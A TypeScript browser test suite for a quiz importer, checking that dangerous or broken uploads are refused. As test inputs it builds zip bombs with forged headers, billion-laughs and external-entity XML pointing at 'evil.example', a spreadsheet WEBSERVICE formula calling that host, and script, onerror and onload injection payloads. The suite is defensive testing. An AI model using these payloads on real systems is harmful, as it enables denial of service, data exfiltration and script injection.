/** Tests files that would do harm, are damaged, or are of another kind: each is refused with what to do instead. */
import { expect } from 'chai'
import { MAX_FILE_MEGABYTES } from '../../../public/presenter/import-files/main'
import { importWords as words } from '../../../public/presenter/import-files/words'
import { MAX_ENTRIES, MAX_UNPACKED_MEGABYTES } from '../../../public/presenter/import-files/zip'
import { compact } from '../../rules/import/compact'
import { startApp } from '../../support/app'
import { inBrowser } from '../support/pages'
import { openPresenter } from '../support/lecture'
import { fixture, questionsIn, refusalOf, textFile, zipFile, type TestFile } from './question-files'

const MEGABYTE = 1024 * 1024
const EVIL = 'http://evil.example'

/** A question of Moodle XML with this in its text. */
const moodle = (text: string, before = '') =>
  `${before}<quiz><question type="truefalse"><questiontext format="html"><text>${text}</text></questiontext>` +
  '<answer fraction="100"><text>true</text></answer></question></quiz>'

/** The same file with another text for these bytes of its headers. */
function patched({ name, bytes }: TestFile, signature: string, change: (view: DataView) => void): TestFile {
  const all = Buffer.from(bytes)
  for (let at = all.indexOf(signature); at >= 0; at = all.indexOf(signature, at + 1))
    change(new DataView(all.buffer, all.byteOffset + at))
  return { name, bytes: new Uint8Array(all) }
}
/** What Chromium says of its own page about a fault in XML, which nobody sees. */
const FAULT_PAGE = /^Applying inline style violates/
const [LOCAL, ENTRY] = ['PK\x03\x04', 'PK\x01\x02']

inBrowser('A file that would do harm', () => {
  it('by unpacking to gigabytes is refused, whatever its headers say', async () => {
    const page = await openPresenter(await startApp())
    const zeros = new Uint8Array((MAX_UNPACKED_MEGABYTES + 4) * MEGABYTE)
    const bomb = zipFile('bomb.zip', { 'quiz.xml': zeros })
    const lying = [
      (file: TestFile) => patched(file, LOCAL, view => view.setUint32(22, 100, true)),
      (file: TestFile) => patched(file, ENTRY, view => view.setUint32(24, 100, true)),
    ].reduce((file, lie) => lie(file), bomb)
    for (const file of [bomb, lying, zipFile('bomb.xlsx', { 'xl/workbook.xml': zeros })])
      expect(await refusalOf(page, file)).to.equal(words.zipBomb(MAX_UNPACKED_MEGABYTES))
    // The same file many times: each is small, all together are not.
    const part = new Uint8Array(MAX_UNPACKED_MEGABYTES * MEGABYTE * 0.3).fill(32)
    const many = Object.fromEntries(['a', 'b', 'c', 'd'].map(name => [`${name}.txt`, part]))
    expect(await refusalOf(page, zipFile('many.zip', many))).to.equal(words.zipBomb(MAX_UNPACKED_MEGABYTES))
    // Nothing that is not read is unpacked.
    const picture = zipFile('pictures.zip', { 'a.png': zeros, 'quiz.xml': moodle('Q') })
    expect((await questionsIn(page, picture)).questions).to.have.length(1)
    expect(await page.locator('#new-question').isEnabled()).to.equal(true)
  })

  it('by a crowd of files, or by a zip in a zip, is not opened', async () => {
    const page = await openPresenter(await startApp())
    const crowd: Record<string, string> = {}
    for (let index = 0; index <= MAX_ENTRIES; index++) crowd[`${index}.txt`] = 'Q'
    expect(await refusalOf(page, zipFile('crowd.zip', crowd))).to.equal(words.manyEntries(MAX_ENTRIES))
    const inner = zipFile('inner.zip', { 'quiz.xml': moodle('Q') }).bytes
    expect(await refusalOf(page, zipFile('outer.zip', { 'inner.zip': inner }))).to.equal(words.nothingInZip)
  })

  it('by the same bytes under many names is given up as if each had its own', async () => {
    const page = await openPresenter(await startApp())
    const part = new Uint8Array(MAX_UNPACKED_MEGABYTES * MEGABYTE * 0.3).fill(32)
    const names = Object.fromEntries(['a', 'b', 'c', 'd'].map(name => [`${name}.txt`, part]))
    const overlapping = patched(zipFile('overlap.zip', names), ENTRY, view => view.setUint32(42, 0, true))
    expect(await refusalOf(page, overlapping)).to.equal(words.zipBomb(MAX_UNPACKED_MEGABYTES))
  })

  it('by a spreadsheet that is larger than it looks is refused; formulas and links are what they last showed', async () => {
    const page = await openPresenter(await startApp())
    const book =
      '<workbook xmlns:r="r"><sheets><sheet name="a" r:id="r1"/></sheets><externalReferences><externalReference r:id="r9"/></externalReferences></workbook>'
    const links =
      '<Relationships><Relationship Id="r1" Target="worksheets/sheet1.xml"/>' +
      `<Relationship Id="r9" Target="${EVIL}/a.xlsx" TargetMode="External"/></Relationships>`
    const xlsx = (rows: string, strings = '') =>
      zipFile('a.xlsx', {
        'xl/workbook.xml': book,
        'xl/_rels/workbook.xml.rels': links,
        'xl/sharedStrings.xml': `<sst><si><t>${strings}</t></si></sst>`,
        'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
      })
    const shared = '<row>' + '<c t="s"><v>0</v></c>'.repeat(50) + '</row>'
    expect(await refusalOf(page, xlsx(shared.repeat(200), 'x'.repeat(MEGABYTE)))).to.equal(words.manyCells)
    expect(await refusalOf(page, xlsx('<row><c><v>1</v></c></row>'.repeat(1_048_576)))).to.equal(
      words.manyCells,
    )
    expect(await refusalOf(page, xlsx('<row/>'.repeat(1_048_576)))).to.equal(words.emptySheet)
    const formulas = `<row><c t="str"><f>WEBSERVICE("${EVIL}")</f><v>Which?</v></c><c><f>1+1</f><v>2</v></c><c><f>[1]a!A1</f><v>3</v></c><c t="str"><v>A</v></c></row>`
    expect((await questionsIn(page, xlsx(formulas))).questions.map(compact)).to.deep.equal([
      'Which? | *2 | 3',
    ])
  })

  it('by one text of 25 MB is cut, and the page lives', async () => {
    const page = await openPresenter(await startApp())
    const { questions } = await questionsIn(page, textFile('a.xml', moodle('word '.repeat(5 * MEGABYTE))))
    expect(questions[0]!.question.text.length).to.be.lessThan(10_000)
    expect(questions[0]!.problems.map(({ sentence }) => sentence).join()).to.match(/longer than/)
    expect(await page.locator('#new-question').isEnabled()).to.equal(true)
  })

  it('by entities, other documents or depth is refused', async () => {
    const page = await openPresenter(await startApp(), { allow: FAULT_PAGE })
    const laughs = '<!DOCTYPE quiz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    const other = `<!DOCTYPE quiz [<!ENTITY x SYSTEM "${EVIL}/x">]>`
    const parameter = `<!DOCTYPE quiz [<!ENTITY % x SYSTEM "${EVIL}/x.dtd"> %x;]>`
    for (const before of [laughs, other, parameter, `<?xml version="1.0"?>\n<!-- a -->\n${laughs}`])
      expect(await refusalOf(page, textFile('a.xml', moodle('Q&b;', before)))).to.equal(words.entities)
    const inZip = zipFile('a.zip', { 'a.xml': moodle('&b;', laughs) })
    expect(await refusalOf(page, inZip)).to.equal(words.fileOf('a.xml', words.entities))
    const deep = '<a>'.repeat(400) + '</a>'.repeat(400)
    expect(await refusalOf(page, textFile('a.xml', moodle(`Q</text>${deep}<text>`)))).to.equal(words.deep)
    const html = `<![CDATA[${'<div>'.repeat(400)}x]]>`
    expect(await refusalOf(page, textFile('a.xml', moodle(html)))).to.equal(words.deep)
    const deepest = '<a>'.repeat(100_000)
    expect(await refusalOf(page, textFile('a.xml', moodle(deepest)))).to.match(/^This XML file is /)
  })

  it('runs nothing and loads nothing: the test’s browser would complain of both', async () => {
    const page = await openPresenter(await startApp())
    const html =
      `Fine?<img src="${EVIL}/a.png" onerror="alert(1)"><script src="${EVIL}/a.js"></script><script>alert(1)</script>` +
      `<iframe src="${EVIL}"></iframe><svg onload="alert(1)"><image href="${EVIL}/b.png"/></svg>` +
      `<link rel="stylesheet" href="${EVIL}/c.css"><style>@import "${EVIL}/d.css"</style><base href="${EVIL}">` +
      `<object data="${EVIL}/e"></object><video src="${EVIL}/f" autoplay></video>`
    const xml = moodle(
      `<![CDATA[${html}]]></text><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${EVIL}/g.xml"/>` +
        `<script xmlns="http://www.w3.org/1999/xhtml">alert(2)</script><text>`,
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${EVIL}/h.xsl"?><!DOCTYPE quiz SYSTEM "${EVIL}/i.dtd">`,
    )
    const dialogs: string[] = []
    page.on('dialog', dialog => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    const { questions } = await questionsIn(page, textFile('a.xml', xml))
    expect(questions.map(compact)).to.deep.equal(['Fine? | *True | False'])
    expect(dialogs).to.deep.equal([])
  })

  it('by its size is refused before it is read, a text at a thirtieth of that', async () => {
    const page = await openPresenter(await startApp())
    const place = page.locator('[data-src*="/import-files/main"]')
    const sentenceOf = (name: string, size: number) =>
      place.evaluate(
        async (element, file) => {
          const address = new URL((element as HTMLElement).dataset['src']!, document.baseURI).href
          const part = (await import(address)) as typeof import('../../../public/presenter/import-files/main')
          return part
            .readQuestionFile(new File([new Uint8Array(file.size).fill(97)], file.name))
            .catch((error: Error) => error.message)
        },
        { name, size },
      )
    expect(await sentenceOf('a.xml', MAX_FILE_MEGABYTES * MEGABYTE + 1)).to.equal(
      words.tooLarge(MAX_FILE_MEGABYTES),
    )
    expect(await sentenceOf('a.txt', MEGABYTE + 1)).to.equal(words.longText(1))
  })
})

inBrowser('A file that is no list of questions', () => {
  it('is refused with what to do instead', async () => {
    const page = await openPresenter(await startApp(), { allow: FAULT_PAGE })
    const zipped = zipFile('a.zip', { 'quiz.xml': fixture('moodle.xml').bytes })
    const cut = { ...zipped, bytes: zipped.bytes.slice(0, 900) }
    const damaged = { ...zipped, bytes: zipped.bytes.map((byte, at) => (at > 60 && at < 90 ? 255 : byte)) }
    const locked = patched(
      patched(zipped, LOCAL, view => view.setUint8(6, 1)),
      ENTRY,
      view => view.setUint8(8, 1),
    )
    const outside = patched(zipped, ENTRY, view => view.setUint32(42, 1e6, true))
    const bytes = (...codes: number[]): TestFile => ({
      name: 'a.txt',
      bytes: new Uint8Array([...codes, 0, 0, 0]),
    })
    const cases: [what: string, file: TestFile, sentence: string | RegExp][] = [
      ['nothing', textFile('a.txt', ''), words.empty],
      ['spaces', textFile('a.txt', ' \n '), words.empty],
      ['a PDF', textFile('a.txt', '%PDF-1.7 …'), words.pdf],
      ['rich text', textFile('a.txt', '{\\rtf1 x}'), words.richText],
      ['a web page', textFile('a.txt', '<!DOCTYPE html>\n<html></html>'), words.webPage],
      ['an old spreadsheet, or one with a password', bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1), words.oldOffice],
      ['a picture', bytes(0x89, 0x50, 0x4e, 0x47), words.picture],
      ['a backup', bytes(0x1f, 0x8b, 8), words.gzip],
      ['bytes', bytes(1, 2, 3), words.notText],
      ['a Word document', zipFile('a.docx', { 'word/document.xml': '<a/>' }), words.word],
      ['slides', zipFile('a.pptx', { 'ppt/presentation.xml': '<a/>' }), words.slides],
      [
        'an OpenDocument spreadsheet',
        zipFile('a.ods', { mimetype: 'application/vnd.oasis.opendocument.spreadsheet' }),
        words.openSheet,
      ],
      ['a backup of Moodle', zipFile('a.zip', { 'moodle_backup.xml': '<a/>' }), words.moodleBackup],
      ['a zip file without questions', zipFile('a.zip', { 'a.png': 'x' }), words.nothingInZip],
      ['a zip file that is not complete', cut, words.brokenZip],
      ['a damaged zip file', damaged, words.brokenZip],
      ['a zip file that points outside', outside, words.brokenZip],
      ['a zip file with a password', locked, words.lockedZip],
      ['an empty spreadsheet', zipFile('a.xlsx', { 'xl/workbook.xml': '<workbook/>' }), words.emptySheet],
      ['XML of another program', textFile('a.xml', '<rss><channel/></rss>'), words.otherXml('rss')],
      ['damaged XML', textFile('a.xml', '<quiz><question></quiz>'), words.brokenXml(' at line 1')],
      ['other JSON', textFile('a.json', '{"a":1}'), words.otherJson],
      ['damaged JSON', textFile('a.json', '[{"type":'), words.brokenJson],
    ]
    for (const [what, file, sentence] of cases) expect(await refusalOf(page, file), what).to.equal(sentence)
  })

  it('but a folder, or a file that is out of reach, says so, whatever its size', async () => {
    const page = await openPresenter(await startApp())
    const sentence = await page.locator('[data-src*="/import-files/main"]').evaluate(async element => {
      const address = new URL((element as HTMLElement).dataset['src']!, document.baseURI).href
      const part = (await import(address)) as typeof import('../../../public/presenter/import-files/main')
      const folder = new File([], 'Questions')
      folder.arrayBuffer = () => Promise.reject(new DOMException('A folder', 'NotFoundError'))
      return part.readQuestionFile(folder).catch((error: Error) => error.message)
    })
    expect(sentence).to.equal(words.unreadable)
  })

  it('is told by its content, not by its name', async () => {
    const page = await openPresenter(await startApp())
    const { bytes } = fixture('moodle.xml')
    for (const file of [
      { name: 'picture.png', bytes },
      { ...zipFile('a', { 'quiz.xml': bytes }), name: 'list.txt' },
    ])
      expect((await questionsIn(page, file)).format).to.equal('moodle')
  })

  it('but has signs that only HTML names is read all the same', async () => {
    const page = await openPresenter(await startApp(), { allow: FAULT_PAGE })
    const { questions } = await questionsIn(
      page,
      textFile('a.xml', moodle('R&D&nbsp;in caf&eacute;s &amp; &lt; 5?')),
    )
    expect(questions.map(compact)).to.deep.equal(['R&D in cafés & < 5? | *True | False'])
  })
})
